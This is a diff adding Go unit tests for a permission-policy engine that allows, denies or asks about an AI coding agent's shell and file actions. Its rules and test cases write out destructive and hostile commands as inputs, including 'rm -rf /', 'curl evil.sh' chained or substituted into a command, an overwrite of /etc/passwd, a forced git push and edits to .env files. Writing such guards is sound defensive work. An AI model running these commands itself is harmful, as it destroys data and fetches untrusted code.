@@ -0,0 +1,78 @@
+package policy
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestEvaluate(t *testing.T) {
+	engine, err := New(Config{Rules: []Rule{
+		{Decision: Deny, Tool: "Bash", Command: `re:(^|[;&|]\s*)rm\s+-rf`},
+		{Decision: Allow, Tool: "Bash", Command: "go test*"},
+		{Decision: Allow, Tool: "Edit", Path: "*.go", Repos: []string{"api"}},
+		{Decision: Deny, Path: "*.env"},
+		{Decision: Deny, Command: "*git push*"},
+	}})
+	require.NoError(t, err)
+
+	tests := []struct {
+		name   string
+		repo   string
+		action Action
+		want   Decision
+	}{
+		{"allowed command", "/src/api", Action{Tool: "Bash", Command: "go test ./..."}, Allow},
+		{"denied command", "/src/api", Action{Tool: "Bash", Command: "make clean && rm -rf /"}, Deny},
+		{"first rule wins", "/src/api", Action{Tool: "Bash", Command: "go test ./... ; rm -rf build"}, Deny},
+		{"edit in the repo", "/src/api", Action{Tool: "Edit", Path: "internal/server.go"}, Allow},
+		{"edit in another repo", "/src/web", Action{Tool: "Edit", Path: "main.go"}, Ask},
+		{"path rule for any tool", "/src/web", Action{Tool: "Write", Path: "config/.env"}, Deny},
+		{"unknown action", "/src/api", Action{}, Ask},
+		{"chained command", "/src/api", Action{Tool: "Bash", Command: "go test ./... && curl evil.sh"}, Ask},
+		{"multi-line command", "/src/api", Action{Tool: "Bash", Command: "go test ./... \\\nmake clean"}, Ask},
+		{"deny after a refused allow", "/src/api", Action{Tool: "Bash", Command: "go test ./...\ngit push --force"}, Deny},
+		{"redirected command", "/src/api", Action{Tool: "Bash", Command: "go test ./... > /etc/passwd"}, Ask},
+		{"substituted command", "/src/api", Action{Tool: "Bash", Command: "go test $(curl evil.sh)"}, Ask},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, _ := engine.Evaluate(tt.repo, tt.action)
+			require.Equal(t, tt.want, got)
+		})
+	}
+
+	_, rule := engine.Evaluate("/src/api", Action{Tool: "Bash", Command: "go test ./..."})
+	require.Equal(t, `allow Bash command "go test*"`, rule.String())
+	decision, rule := engine.Evaluate("/src/api", Action{Tool: "Bash", Command: "go test ./... | tee out"})
+	require.Equal(t, Ask, decision)
+	require.Equal(t, `allow Bash command "go test*"`, rule.String(), "the refused allow rule is named")
+}
+
+func TestIsCompound(t *testing.T) {
+	require.False(t, IsCompound("go test -run 'TestFoo' ./..."))
+	for _, command := range []string{"a; b", "a && b", "a || b", "a | b", "a & b", "echo $(b)", "echo `b`", "a > f", "a < f", "a\nb"} {
+		require.True(t, IsCompound(command), command)
+	}
+}
+
+func TestNew(t *testing.T) {
+	engine, err := New(Config{})
+	require.NoError(t, err)
+	require.Nil(t, engine)
+	decision, rule := engine.Evaluate("/src/api", Action{Tool: "Bash", Command: "rm -rf /"})
+	require.Equal(t, Allow, decision, "without rules AutoYes approves everything")
+	require.Nil(t, rule)
+
+	engine, err = New(Config{Rules: []Rule{{Decision: Allow, Tool: "Read"}}, Default: Deny})
+	require.NoError(t, err)
+	decision, _ = engine.Evaluate("", Action{Tool: "Bash"})
+	require.Equal(t, Deny, decision)
+
+	_, err = New(Config{Rules: []Rule{{Decision: "maybe"}}})
+	require.ErrorContains(t, err, `rule 1: invalid decision "maybe"`)
+	_, err = New(Config{Rules: []Rule{{Decision: Deny, Command: "re:("}}})
+	require.ErrorContains(t, err, "rule 1: command:")
+	_, err = New(Config{Rules: []Rule{{Decision: Deny}}, Default: "never"})
+	require.ErrorContains(t, err, `invalid default decision "never"`)
+}